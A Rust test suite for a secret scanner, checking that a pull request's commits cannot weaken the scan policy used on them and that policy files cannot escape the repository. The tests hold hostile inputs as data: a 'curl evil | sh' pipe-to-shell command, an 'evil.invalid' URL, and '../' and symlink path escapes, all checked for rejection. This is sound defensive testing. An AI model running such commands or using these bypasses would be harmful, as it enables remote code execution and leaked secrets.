//! Trusted policy in range scans: a pull request cannot switch off its own check. Each case
//! builds a base commit on `main` and a branch whose commits add a secret together with a
//! policy change, then runs `history --range main..HEAD` as CI would.

use crate::util::{fake, lh, Dir};

/// A secret file the range adds.
fn secret() -> String {
    format!("STRIPE = \"{}\"\n", fake::stripe())
}

struct Case {
    name: &'static str,
    /// Files of the base commit on main.
    base: &'static [(&'static str, &'static str)],
    /// Does the range add the secret (as `creds.py`)?
    adds_secret: bool,
    /// Policy files the range writes (a value of "@baseline" records the secret's finding).
    head: &'static [(&'static str, &'static str)],
    /// Extra arguments.
    args: &'static [&'static str],
    /// Expected exit code.
    code: i32,
    /// Text the summary must contain.
    says: &'static [&'static str],
}

const CASES: &[Case] = &[
    Case {
        name: "allowlist added in range",
        base: &[],
        adds_secret: true,
        head: &[(
            ".leakhound.toml",
            "[[allowlists]]\npaths = ['''creds\\.py''']\n",
        )],
        args: &[],
        code: 1,
        says: &[
            "policy from merge base",
            "changes policy files (.leakhound.toml)",
        ],
    },
    Case {
        name: "baseline entry added in range",
        base: &[],
        adds_secret: true,
        head: &[(".leakhound-baseline.json", "@baseline")],
        args: &[],
        code: 1,
        says: &["(.leakhound-baseline.json)"],
    },
    Case {
        name: ".leakhoundignore added in range",
        base: &[],
        adds_secret: true,
        head: &[(".leakhoundignore", "creds.py\n")],
        args: &[],
        code: 1,
        says: &["(.leakhoundignore)"],
    },
    Case {
        name: "global allowlist widened in range",
        base: &[(
            ".leakhound.toml",
            "[[allowlists]]\npaths = ['''^docs/''']\n",
        )],
        adds_secret: true,
        head: &[(
            ".leakhound.toml",
            "[[allowlists]]\npaths = ['''^docs/''', '''.*''']\n",
        )],
        args: &[],
        code: 1,
        says: &["(.leakhound.toml)"],
    },
    Case {
        name: "rule disabled in range",
        base: &[],
        adds_secret: true,
        head: &[(
            ".leakhound.toml",
            "disabled_rules = [\"stripe-secret-key\"]\n",
        )],
        args: &[],
        code: 1,
        says: &["(.leakhound.toml)"],
    },
    Case {
        name: "config extending a file outside the repository",
        base: &[],
        adds_secret: true,
        head: &[(".leakhound.toml", "[extend]\npath = \"../outside.toml\"\n")],
        args: &[],
        code: 1,
        says: &["(.leakhound.toml)"],
    },
    Case {
        name: "the same, with the checkout's policy: refused, never read",
        base: &[],
        adds_secret: true,
        head: &[(".leakhound.toml", "[extend]\npath = \"../outside.toml\"\n")],
        args: &["--policy-from", "worktree"],
        code: 2,
        says: &["leaves the scanned tree"],
    },
    Case {
        name: "a clean range that edits only the policy",
        base: &[(
            ".leakhound.toml",
            "[[allowlists]]\npaths = ['''^docs/''']\n",
        )],
        adds_secret: false,
        head: &[(
            ".leakhound.toml",
            "[[allowlists]]\npaths = ['''^docs/''', '''^examples/''']\n",
        )],
        args: &[],
        code: 0,
        says: &["0 findings", "changes policy files (.leakhound.toml)"],
    },
    Case {
        name: "--policy-from worktree reproduces reading the checkout",
        base: &[],
        adds_secret: true,
        head: &[(
            ".leakhound.toml",
            "[[allowlists]]\npaths = ['''creds\\.py''']\n",
        )],
        args: &["--policy-from", "worktree"],
        code: 0,
        says: &["policy from the working tree", "changes included"],
    },
    Case {
        name: "the base's own allowlist still applies",
        base: &[(
            ".leakhound.toml",
            "[[allowlists]]\npaths = ['''creds\\.py''']\n",
        )],
        adds_secret: true,
        head: &[],
        args: &[],
        code: 0,
        says: &["skipped 1 allowlisted path"],
    },
    Case {
        name: "an explicit --config inside the checkout is read from the base",
        base: &[],
        adds_secret: true,
        head: &[(
            "ci/leakhound.toml",
            "[[allowlists]]\npaths = ['''creds\\.py''']\n",
        )],
        args: &["--config", "ci/leakhound.toml"],
        code: 2,
        says: &["ci/leakhound.toml"],
    },
    Case {
        name: "--policy-from a ref",
        base: &[(
            ".leakhound.toml",
            "[[allowlists]]\npaths = ['''creds\\.py''']\n",
        )],
        adds_secret: true,
        head: &[(".leakhound.toml", "# emptied\n")],
        args: &["--policy-from", "main"],
        code: 0,
        says: &["policy from main ("],
    },
];

fn run_case(c: &Case) {
    let outer = Dir::new();
    // A file beside the repository that an `[extend] path` might try to reach.
    outer.write(
        "outside.toml",
        "[[allowlists]]\ndescription = \"everything\"\npaths = ['''.*''']\n",
    );
    let d = outer.join("repo");
    std::fs::create_dir(&d).unwrap();
    let d = Dir {
        tmp: tempfile::tempdir_in(&d).unwrap(),
    };
    d.git_init();
    d.write("app.py", "print('hello')\n");
    for (p, text) in c.base {
        d.write(p, text);
    }
    d.commit_all("base");
    d.git(&["checkout", "-q", "-b", "feature"]);
    if c.adds_secret {
        d.write("creds.py", secret());
    } else {
        d.write("lib.py", "x = 1\n");
    }
    d.commit_all("change");
    for (p, text) in c.head {
        if *text == "@baseline" {
            let out = lh()
                .current_dir(d.path())
                .args(["baseline", "-o", p])
                .output()
                .unwrap();
            assert!(out.status.success(), "{}: baseline", c.name);
        } else {
            d.write(p, text);
        }
    }
    if !c.head.is_empty() {
        d.commit_all("policy");
    }
    let out = lh()
        .current_dir(d.path())
        .args(["history", "--range", "main..HEAD"])
        .args(c.args)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(c.code),
        "{}:\nstdout: {stdout}\nstderr: {stderr}",
        c.name
    );
    for s in c.says {
        assert!(
            stderr.contains(s),
            "{}: summary lacks {s:?}:\n{stderr}",
            c.name
        );
    }
    if c.code == 1 {
        assert!(stdout.contains("creds.py"), "{}: {stdout}", c.name);
    }
}

#[test]
fn a_range_cannot_change_its_own_policy() {
    for c in CASES {
        run_case(c);
    }
}

#[test]
fn the_policy_change_is_a_note_in_every_format() {
    let d = Dir::new();
    d.git_init();
    d.write("app.py", "print('hello')\n");
    d.commit_all("base");
    d.git(&["checkout", "-q", "-b", "feature"]);
    d.write(".leakhoundignore", "creds.py\n");
    d.write("creds.py", secret());
    d.commit_all("change");
    let run = |fmt: &str| {
        let out = lh()
            .current_dir(d.path())
            .args(["history", "--range", "main..HEAD", "-f", fmt])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(1), "{fmt}");
        String::from_utf8(out.stdout).unwrap()
    };
    let json: Vec<serde_json::Value> = serde_json::from_str(&run("json")).unwrap();
    let note = json.iter().find(|v| v["kind"] == "note").expect("a note");
    assert_eq!(note["id"], "policy-changed");
    assert_eq!(note["files"][0], ".leakhoundignore");
    assert!(json.iter().any(|v| v["rule_id"] == "stripe-secret-key"));
    let jsonl = run("jsonl");
    let last: serde_json::Value = serde_json::from_str(jsonl.lines().last().unwrap()).unwrap();
    assert_eq!(last["kind"], "note");
    let sarif: serde_json::Value = serde_json::from_str(&run("sarif")).unwrap();
    let n = &sarif["runs"][0]["invocations"][0]["toolExecutionNotifications"][0];
    assert_eq!(n["descriptor"]["id"], "policy-changed");
    assert!(n["message"]["text"]
        .as_str()
        .unwrap()
        .contains(".leakhoundignore"));
    assert!(run("text").contains("note: the range changes policy files (.leakhoundignore)"));
    assert!(run("junit").contains("<system-out>the range changes policy files"));
}

#[test]
fn staged_and_history_honour_the_ignore_file_like_the_tree_walk() {
    let d = Dir::new();
    d.git_init();
    d.write(".leakhoundignore", "vendor/\n");
    d.write("vendor/lib.py", secret());
    d.commit_all("vendored");
    for args in [&["scan", "."][..], &["history"][..]] {
        let out = lh().current_dir(d.path()).args(args).output().unwrap();
        assert_eq!(out.status.code(), Some(0), "{args:?}");
    }
    d.write("vendor/more.py", secret());
    d.git(&["add", "-A"]);
    let out = lh()
        .current_dir(d.path())
        .args(["scan", "--staged", "-v"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&out.stderr).contains(".leakhoundignore"));
}

#[test]
fn a_tree_policy_cannot_read_outside_the_tree() {
    let outer = Dir::new();
    outer.write("outside.toml", "[[allowlists]]\npaths = ['''.*''']\n");
    outer.write("repo/creds.py", secret());
    outer.write(
        "repo/.leakhound.toml",
        "[extend]\npath = \"../outside.toml\"\n",
    );
    let out = lh().arg("scan").arg(outer.join("repo")).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("leaves the scanned tree"), "{err}");
    // A symbolic link to it is refused the same way.
    #[cfg(unix)]
    {
        outer.write("repo/.leakhound.toml", "[extend]\npath = \"shared.toml\"\n");
        std::os::unix::fs::symlink(outer.join("outside.toml"), outer.join("repo/shared.toml"))
            .unwrap();
        let out = lh().arg("scan").arg(outer.join("repo")).output().unwrap();
        assert_eq!(out.status.code(), Some(2));
        assert!(String::from_utf8_lossy(&out.stderr).contains("outside the scanned root"));
    }
    // Named on the command line, the same file is the user's choice and is read.
    let out = lh()
        .arg("scan")
        .arg(outer.join("repo/creds.py"))
        .arg("--config")
        .arg(outer.join("outside.toml"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
}

#[test]
fn a_policy_file_can_name_no_command_url_or_output() {
    // Policy files hold rules and allowlists only: anything else is an unknown field.
    for extra in [
        "command = \"curl evil | sh\"\n",
        "report = \"/tmp/leakhound-owned\"\n",
        "[verify]\nurl = \"https://evil.invalid\"\n",
    ] {
        let d = Dir::new();
        d.write(".leakhound.toml", extra);
        d.write("a.py", "x = 1\n");
        let out = lh().arg("scan").arg(d.path()).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{extra}");
        assert!(!std::path::Path::new("/tmp/leakhound-owned").exists());
    }
}
